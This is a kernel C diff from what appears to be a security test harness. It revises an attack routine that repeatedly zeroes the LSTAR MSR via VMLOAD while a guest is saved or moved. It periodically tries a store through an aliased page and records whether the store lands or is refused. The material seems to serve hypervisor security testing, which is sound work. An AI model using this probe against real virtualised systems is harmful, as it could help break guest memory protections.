@@ -103,15 +103,29 @@ void attack_lstar_zero_vmport(struct rf_report *r)
 	free_page((unsigned long)block);
 }
 
+static unsigned long store(u8 *at)
+{
+	unsigned long faulted = 1;
+
+	asm volatile(RF_STORE("xorb $1, (%[p])")
+		     : [f] "+r"(faulted)
+		     : [p] "r"(at)
+		     : "memory", "cc");
+	return faulted;
+}
+
+#define TRIES_PER_SECOND 20
+
 /*
  * LSTAR is 0 while the guest is saved, and again as often as somebody puts it back: where a VMM
- * loads it, the value that announces a kernel is not there. Half of the time is for that; then the
- * store, when the guest has been moved.
+ * loads it, the value that announces a kernel is not there. The store is tried all the time, so
+ * that it is made as soon as the guest runs where it was moved.
  */
 void attack_restore_lstar_zero(struct rf_report *r)
 {
+	unsigned long flags, until, next, refused = 0;
 	struct rf_alias alias;
-	unsigned long faulted = 1, flags, until;
+	bool landed = false;
 	void *block;
 	u64 before;
 
@@ -125,22 +139,26 @@ void attack_restore_lstar_zero(struct rf_report *r)
 	preempt_disable();
 	before = rf_get_msr(MSR_LSTAR);
 	until = jiffies + rf_patience * HZ;
-	while (time_before(jiffies, until)) {
+	for (next = jiffies; time_before(jiffies, until);) {
 		local_irq_save(flags);
 		rf_vmload_lstar(block, 0);
 		local_irq_restore(flags);
 		touch_softlockup_watchdog();
+		if (landed || time_before(jiffies, next))
+			continue;
+		next = jiffies + HZ / TRIES_PER_SECOND;
+		refused += store(alias.at);
+		landed = r->at[0] != r->before[0];
 	}
-	asm volatile(RF_STORE("xorb $1, (%[p])")
-		     : [f] "+r"(faulted)
-		     : [p] "r"(alias.at)
-		     : "memory", "cc");
-	rf_say(r, "lstar=%s", rf_get_msr(MSR_LSTAR) ? "back" : "zero");
+	rf_say(r, "lstar=%s refused=%lu", rf_get_msr(MSR_LSTAR) ? "back" : "zero", refused);
 	local_irq_save(flags);
 	rf_vmload_lstar(block, before);
 	local_irq_restore(flags);
 	preempt_enable();
-	rf_judge(r, faulted);
+	/* What landed may be sealed by now: it stays where undoing it is refused. */
+	r->outcome = landed ? RF_LANDED : refused ? RF_FAULTED : RF_UNCHANGED;
+	if (landed)
+		rf_say(r, "back=%s", store(alias.at) ? "refused" : "yes");
 	rf_alias_unmap(&alias);
 	free_page((unsigned long)block);
 }
